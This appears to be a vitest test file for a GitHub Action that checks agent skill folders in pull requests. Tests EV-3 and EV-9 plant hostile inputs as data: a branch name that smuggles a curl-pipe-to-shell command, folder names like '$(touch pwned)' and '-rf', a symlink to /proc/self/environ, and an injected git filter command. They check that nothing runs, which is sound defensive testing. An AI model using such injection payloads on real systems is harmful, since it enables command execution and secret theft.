import { createHash } from "node:crypto";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { actionWorld, type Done } from "./action-world.ts";
import { bad, good, recorded, SUITE, skill, TEST_NAME, times } from "./skills.ts";

const GREETER = "skills/greeter";

function changesOf(run: Done) {
  const skills = run.report?.skills ?? [];
  return Object.fromEntries(skills.map(({ folder, change, state }) => [folder, [change, state]]));
}

test("EV-3: hostile folder and branch names are listed as they are and executed nowhere", async () => {
  const branch = `dev$({curl,-s,evil}${"$"}{IFS}|sh)`;
  const folders = ["skills/$(touch pwned)", "skills/-rf", "skills/a\nb", "skills/ünï"];
  const world = await actionWorld([
    { branch: "main", files: { "README.md": "# Skills\n" } },
    {
      branch: "topic",
      from: "main",
      files: Object.assign({}, ...folders.map((folder) => skill(folder, { suite: null }))),
    },
  ]);
  await world.github.addPullRequest({ head: "topic", headRef: branch });
  const run = await world.start({ action: "opened" });
  expect(run.report?.skills.map(({ folder }) => folder).sort()).toEqual([...folders].sort());
  const outputs = JSON.parse(run.outputs["skills"] ?? "[]");
  expect(outputs).toHaveLength(4);
  const [body = ""] = world.comments();
  for (const shown of ["touch pwned", "-rf", "ünï"]) expect(body).toContain(shown);
  // A line break in a name starts no line of ours.
  expect(body).not.toMatch(/^b\b/m);
  for (const place of [world.folder, join(world.folder, "workspace"), process.cwd()]) {
    expect(existsSync(join(place, "pwned"))).toBe(false);
  }
});

test("EV-4: a list of files that cannot be trusted means the skills that git names, else all of them", async () => {
  const files = { ...skill(GREETER), ...skill("skills/other"), "a.txt": "1\n" };
  const world = await actionWorld([
    { branch: "main", files },
    { branch: "topic", from: "main", files: skill(GREETER, { more: "Be loud.\n" }) },
  ]);
  await world.github.addPullRequest({ head: "topic" });
  const empty = { match: /^GET \S+\/pulls\/1\/files/, status: 200, body: [] };
  world.github.addFault(empty);
  const merged = await world.start({ action: "opened" });
  expect(changesOf(merged)).toEqual({ [GREETER]: ["modified", "unverified"] });

  // With a conflict there is no merge commit that git could compare either.
  await world.commit(
    { branch: "topic", files: { "a.txt": "2\n" } },
    { branch: "main", files: { "a.txt": "3\n" } },
  );
  await world.github.synchronize(1);
  world.github.addFault(empty);
  const all = await world.start();
  expect(Object.keys(changesOf(all)).sort()).toEqual([GREETER, "skills/other"]);
  expect(all.report?.notes).toContain(
    "every skill is looked at, because the list of changed files is incomplete: GitHub lists 0 files but counts 2",
  );
  expect(world.comments()[0]).toContain("every skill is looked at");
});

test("EV-9: filters, submodules, links and hooks of a pull request do nothing; base is found beside a shallow checkout", async () => {
  const linked = skill("skills/linked", { suite: null });
  const main = await recorded(skill(GREETER), times(5, good(GREETER)), { folder: GREETER });
  const world = await actionWorld([
    { branch: "main", files: main },
    {
      branch: "topic",
      from: "main",
      files: {
        ...(await recorded(skill(GREETER, { more: "Be loud.\n" }), times(5, good(GREETER)), {
          folder: GREETER,
          day: 29,
        })),
        ".gitattributes": "* filter=x\n*.md text eol=crlf\n",
        ".gitmodules": '[submodule "s"]\n\tpath = s\n\turl = http://127.0.0.1:9/evil\n',
        s: { mode: "160000", content: "1".repeat(40) },
        ...linked,
        "skills/linked/SKILL.md": { mode: "120000", content: "/proc/self/environ" },
      },
    },
  ]);
  await world.github.addPullRequest({ head: "topic" });
  const run = await world.start({
    action: "opened",
    // What a checkout step may have left in the environment of the job.
    env: {
      GIT_CONFIG_COUNT: "1",
      GIT_CONFIG_KEY_0: "filter.x.smudge",
      GIT_CONFIG_VALUE_0: "touch pwned",
    },
  });
  const skills = run.report?.skills ?? [];
  expect(changesOf(run)).toEqual({
    [GREETER]: ["modified", "pass"],
    "skills/linked": ["added", "lint"],
  });
  const [finding] = skills.find(({ folder }) => folder === "skills/linked")?.findings ?? [];
  expect(finding).toMatchObject({
    severity: "error",
    slug: "symlink",
    path: "skills/linked/SKILL.md",
  });
  // The base's recordings were found: 5 of them stand beside the head's.
  expect(skills.find(({ folder }) => folder === GREETER)?.tests[0]?.base).toMatchObject({
    passed: 5,
  });
  expect(existsSync(join(world.folder, "workspace", "pwned"))).toBe(false);
  expect(run.log).not.toContain("PATH=");
});

test("deleted, renamed, nested and sharing skills are told apart, each with its own recordings", async () => {
  const nested = "skills/outer/inner";
  const outer = skill("skills/outer", { more: "See [the rules](../../shared/rules.md).\n" });
  const old = await recorded(skill("skills/old"), times(5, good("skills/old")), {
    folder: "skills/old",
  });
  const world = await actionWorld([
    {
      branch: "main",
      files: {
        ...old,
        ...outer,
        ...skill(nested),
        ...skill("skills/gone"),
        ...skill("skills/untouched"),
        "shared/rules.md": "Be kind.\n",
      },
    },
    {
      branch: "topic",
      from: "main",
      files: {
        ...Object.fromEntries(Object.keys(skill("skills/gone")).map((path) => [path, null])),
        ...Object.fromEntries(Object.keys(skill("skills/old")).map((path) => [path, null])),
        ...skill("skills/new"),
        "shared/rules.md": "Be very kind.\n",
        [`${nested}/references/words.md`]: "Ahoy is for everyone, aye.\n",
      },
    },
  ]);
  await world.github.addPullRequest({ head: "topic" });
  const run = await world.start({ action: "opened" });
  expect(changesOf(run)).toEqual({
    "skills/gone": ["deleted", "removed"],
    "skills/old": ["deleted", "removed"],
    "skills/new": ["renamed", "unverified"],
    "skills/outer": ["shared", "unverified"],
    [nested]: ["modified", "unverified"],
  });
  const renamed = run.report?.skills.find(({ folder }) => folder === "skills/new");
  expect(renamed).toMatchObject({ renamedFrom: "skills/old", stale: { tests: 1, passed: 1 } });
  expect(run.outputs["conclusion"]).toBe("action_required");
});

/** The files below the folder that `working-directory` names. */
function kit(files: Readonly<Record<string, string>>): Readonly<Record<string, string>> {
  return Object.fromEntries(Object.entries(files).map(([path, text]) => [`kits/a/${path}`, text]));
}

test("working-directory: reasons, findings and the cause name their files from the top too", async () => {
  const silent = "  - name: asks for nothing\n    prompt: Greet the crew.\n";
  const other = "skills/other";
  const main = skill(GREETER, { suite: SUITE + silent, more: "Read references/words.md first.\n" });
  const topic = skill(GREETER, { suite: SUITE + silent });
  const plan = { folder: GREETER };
  const forging = await recorded(skill(other), times(5, good(other)), { folder: other });
  const [[forged, text] = ["", ""]] = Object.entries(forging).filter(([path]) =>
    path.includes("/cassettes/"),
  );
  const world = await actionWorld([
    {
      branch: "main",
      files: kit({
        ...(await recorded(main, times(5, good(GREETER)), plan)),
        ".skillcheck.yml": "version: 1\nlint: { rules: { SK999: error } }\n",
      }),
    },
    {
      branch: "topic",
      from: "main",
      files: kit({
        ...(await recorded(topic, times(5, bad()), { ...plan, day: 29 })),
        ...forging,
        [forged]: text.replace("Ahoy, crew!", "Aye, crew!"),
      }),
    },
  ]);
  await world.github.addPullRequest({ head: "topic" });
  const run = await world.start({ action: "opened", inputs: { "working-directory": "kits/a" } });
  expect(run.report?.reasons.map((reason) => reason.text)).toEqual([
    "kits/a/.skillcheck.yml:2:18 lint.rules.SK999: there is no such rule: write an id such as SK009",
    "greeter: 1 of 2 tests fail",
    "greeter: 1 test regressed",
    `kits/a/${forged}: digest mismatch: was changed after it was written, its content is not that of its name: restore it, or remove it and record again`,
    "greeter: 1 of 2 tests taught nothing",
  ]);
  expect(run.report?.skills.flatMap(({ findings }) => findings)).toEqual([
    {
      rule: "SK100",
      slug: "nothing-asserted",
      severity: "error",
      path: `kits/a/${GREETER}/skillcheck.yaml`,
      line: 10,
      column: 5,
      message:
        '"asks for nothing" asserts nothing, so it can only be invalid. Add a check under expect.',
      atBase: true,
    },
  ]);
  const cause = run.report?.skills.flatMap(({ tests }) => tests).find((one) => one.cause)?.cause;
  const path = `kits/a/${GREETER}/SKILL.md`;
  // GitHub's anchor of a file is the digest of its path in the repository.
  const pathDigest = createHash("sha256").update(path).digest("hex");
  expect(cause).toMatchObject({ target: "Read references/words.md", path, pathDigest });
});

test("working-directory: skills, settings and recordings are looked for below it, files are named from the top", async () => {
  const folder = "kits/a";
  const suite = SUITE.replace("tests:", "agents: [claude, codex]\ntests:");
  const base = skill(GREETER, { suite });
  const head = skill(GREETER, { suite, more: "Be loud.\n" });
  const samples = times(5, good(GREETER));
  const world = await actionWorld([
    { branch: "main", files: { ...kit(base), ...skill("skills/outside") } },
    {
      branch: "topic",
      from: "main",
      files: {
        ...kit(await recorded(head, samples, { folder: GREETER, agents: ["claude"] })),
        ...skill("skills/outside", { more: "Be loud.\n" }),
      },
    },
  ]);
  await world.github.addPullRequest({ head: "topic" });
  const run = await world.start({ action: "opened", inputs: { "working-directory": folder } });
  const [only, ...others] = run.report?.skills ?? [];
  expect(others).toEqual([]);
  expect(only).toMatchObject({
    folder: `${folder}/${GREETER}`,
    suite: `${folder}/${GREETER}/skillcheck.yaml`,
    // Several agents: a row each, the one without recordings unverified.
    rows: [
      { agent: "claude", runs: 5 },
      { agent: "codex", runs: 0 },
    ],
  });
  expect(only?.tests.map(({ name, agent, status }) => [name, agent, status])).toEqual([
    [TEST_NAME, "claude", "pass"],
    [TEST_NAME, "codex", "unverified"],
  ]);
  expect(only?.tests[0]?.samples[0]?.recording).toMatch(/^kits\/a\/\.skillcheck\/cassettes\//);
  const [body = ""] = world.comments();
  expect(body).toContain("codex");
});

test("what the base has too is folded in the comment, not annotated, and does not fail the check", async () => {
  const link = (name: string): string => `\nSee [${name}](${name}.md).\n`;
  const world = await actionWorld([
    { branch: "main", files: skill(GREETER, { suite: null, more: link("old") }) },
    {
      branch: "topic",
      from: "main",
      files: skill(GREETER, { suite: null, more: `\nBe loud.\n${link("old")}` }),
    },
  ]);
  await world.github.addPullRequest({ head: "topic" });
  const inputs = { mode: "lint", "fail-on": "lint" };
  const calm = await world.start({ action: "opened", inputs });
  expect(calm.report?.conclusion).toBe("success");
  expect(calm.report?.skills[0]?.findings).toMatchObject([{ rule: "SK009", atBase: true }]);
  expect(world.comments()[0]).toContain("Lint: 1 error that the base has too");

  await world.commit({
    branch: "topic",
    files: skill(GREETER, { suite: null, more: `${link("new")}${link("old")}` }),
  });
  await world.github.synchronize(1);
  const failed = await world.start({ inputs });
  expect(failed.report?.conclusion).toBe("failure");
  const [body = ""] = world.comments();
  expect(body.indexOf("<b>Lint: 1 error</b>")).toBeGreaterThan(0);
  expect(body.indexOf("<b>Lint: 1 error</b>")).toBeLessThan(
    body.indexOf("Lint: 1 error that the base has too"),
  );
});
